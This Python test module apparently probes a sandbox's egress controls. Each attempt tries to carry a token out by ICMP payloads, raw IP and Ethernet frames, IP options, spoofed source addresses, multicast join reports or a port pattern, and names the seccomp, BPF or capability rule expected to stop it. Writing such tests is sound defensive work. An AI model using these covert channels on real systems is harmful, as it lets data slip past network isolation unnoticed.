"""Beside TCP and UDP: other protocols, options of IP, and what makes the kernel send for a process."""
import socket
import struct
import time

from common import HOLD, attempt, datagram
from network import CONNECT, CREATE, V4, V6, own_address

PACKETS = "cgroup BPF, packets"
JOIN = "seccomp: no multicast groups (a report carries the group's address)"
SOURCE = "no capabilities"


@attempt("icmp-echo", "an ICMP echo socket, the data in the request", CREATE)
def _(t):
    with socket.socket(V4, socket.SOCK_DGRAM, socket.IPPROTO_ICMP) as s:
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + t.mark, (t.outside, 0))


@attempt("icmp6-echo", "an ICMPv6 echo socket", CREATE)
def _(t):
    with socket.socket(V6, socket.SOCK_DGRAM, 58) as s:
        s.sendto(struct.pack(">BBHHH", 128, 0, 0, 1, 1) + t.mark, (t.outside6, 0, 0, 0))


@attempt("raw-icmp", "a raw ICMP socket", "cgroup BPF, socket; " + SOURCE, privilege="raw sockets need CAP_NET_RAW")
def _(t):
    with socket.socket(V4, socket.SOCK_RAW, socket.IPPROTO_ICMP) as s:
        s.sendto(struct.pack(">BBHHH", 8, 0, 0, 1, 1) + t.mark, (t.outside, 0))


@attempt("raw-ip", "a raw IP packet of protocol 253, with a header of one's own", "cgroup BPF, socket; " + SOURCE,
         privilege="raw sockets need CAP_NET_RAW")
def _(t):
    with socket.socket(V4, socket.SOCK_RAW, socket.IPPROTO_RAW) as s:
        header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(t.mark), 1, 0, 64, 253, 0, socket.inet_aton(own_address()),
                             socket.inet_aton(t.outside))
        s.sendto(header + t.mark, (t.outside, 0))


@attempt("raw-ip6", "a raw IPv6 packet of protocol 253", "cgroup BPF, socket; " + SOURCE, privilege="raw sockets need CAP_NET_RAW")
def _(t):
    with socket.socket(V6, socket.SOCK_RAW, 253) as s:
        s.sendto(t.mark, (t.outside6, 0))


@attempt("packet", "an Ethernet frame through a packet socket", "seccomp, list of socket families", privilege="packet sockets need CAP_NET_RAW")
def _(t):
    with socket.socket(socket.AF_PACKET, socket.SOCK_RAW) as s:
        s.bind(("eth0", 0))
        s.send(b"\xff" * 6 + b"\x02" * 6 + b"\x88\xb5" + t.mark.ljust(46, b"."))


@attempt("sctp", "SCTP", CREATE, absent="the kernel here has no SCTP")
def _(t):
    with socket.socket(V4, socket.SOCK_STREAM, 132) as s:
        s.connect((t.outside, t.port))


@attempt("dccp", "DCCP", CREATE, absent="the kernel here has no DCCP")
def _(t):
    with socket.socket(V4, 6, 33) as s:
        s.connect((t.outside, t.port))


# --- addresses and options that mislead

@attempt("source-route", "IP_OPTIONS: the first hop is outside, the destination the job's own node", "seccomp: no IP options; " + PACKETS,
         privilege="source routes need CAP_NET_RAW since Linux 6.18")
def _(t):
    route = b"\x01\x83\x07\x04" + socket.inet_aton(t.outside)  # NOP, loose source route
    datagram(V4, (own_address(), t.port), t.mark, set={(socket.IPPROTO_IP, socket.IP_OPTIONS): route})


@attempt("ip-timestamp-option", "data in the IP header's own options", "seccomp: no IP options; " + CONNECT)
def _(t):
    datagram(V4, (t.outside, t.port), t.mark, set={(socket.IPPROTO_IP, socket.IP_OPTIONS): b"\x44\x0c\x05\x00" + t.mark[:8]})


@attempt("spoofed-source", "IP_TRANSPARENT, bound to outside's address: an error report would go there", SOURCE,
         privilege="IP_TRANSPARENT needs CAP_NET_ADMIN or CAP_NET_RAW")
def _(t):
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, 19, 1)
        s.bind((t.outside, 0))
        s.sendto(t.mark, (t.address(t.other), 30001))


@attempt("freebind-source", "IP_FREEBIND, bound to an address that is not this node's", CONNECT, absent="the kernel routes no foreign source address")
def _(t):
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(socket.IPPROTO_IP, 15, 1)
        s.bind(("203.0.113.9", 0))
        s.sendto(t.mark, (t.outside, t.port))


@attempt("so-mark", "SO_MARK, for a routing rule that leads elsewhere", SOURCE, privilege="SO_MARK needs CAP_NET_ADMIN")
def _(t): datagram(V4, (t.outside, t.port), t.mark, set={(socket.SOL_SOCKET, 36): 1})


@attempt("igmp-join", "joining a group: the kernel reports the group's address, 28 bits of choice, to the network", JOIN)
def _(t): join(t, socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP, lambda g: g + socket.inet_aton(own_address()))


@attempt("igmp-join-generic", "the same by MCAST_JOIN_GROUP", JOIN)
def _(t): join(t, socket.IPPROTO_IP, 42, lambda g: struct.pack("I4xH2s4s120x", socket.if_nametoindex("eth0"), V4, b"", g))


@attempt("igmp-join-source", "the same by IP_ADD_SOURCE_MEMBERSHIP, a source address of choice in it too", JOIN)
def _(t): join(t, socket.IPPROTO_IP, 39, lambda g: g + socket.inet_aton(own_address()) + b"\x0a\x01\x02\x03")


def group_of(t):
    """239.x.y.z from the token, as sniffer.py computes it."""
    return b"\xef" + struct.pack("!I", t.number)[1:]


def join(t, level, option, value):
    with socket.socket(V4, socket.SOCK_DGRAM) as s:
        s.setsockopt(level, option, value(group_of(t)))
        time.sleep(0.3)  # the report leaves at once, or within a fraction of a second


@attempt("mld-join", "the same for IPv6: 112 bits of choice in a report", JOIN)
def _(t):
    with socket.socket(V6, socket.SOCK_DGRAM) as s:
        group = b"\xff\x05" + t.mark[-14:].rjust(14, b".")
        s.setsockopt(socket.IPPROTO_IPV6, 20, group + struct.pack("I", socket.if_nametoindex("eth0")))
        time.sleep(0.3)


@attempt("mld-anycast", "IPV6_JOIN_ANYCAST: an address of choice that the node announces", JOIN, opens=True, privilege="it needs CAP_NET_ADMIN")
def _(t):
    with socket.socket(V6, socket.SOCK_DGRAM) as s:
        address = socket.inet_pton(V6, t.outside6)[:8] + t.mark[-8:]
        s.setsockopt(socket.IPPROTO_IPV6, 27, address + struct.pack("I", socket.if_nametoindex("eth0")))
        time.sleep(0.3)


@attempt("port-pattern", "listening on chosen ports: a scan from outside reads the pattern", "the node's gate: strangers hear nothing from any port from 1024 up")
def _(t):
    for bit in range(16):
        if t.number >> bit & 1:
            s = socket.create_server(("", 20000 + bit))
            t.notes[bit] = s
    return HOLD
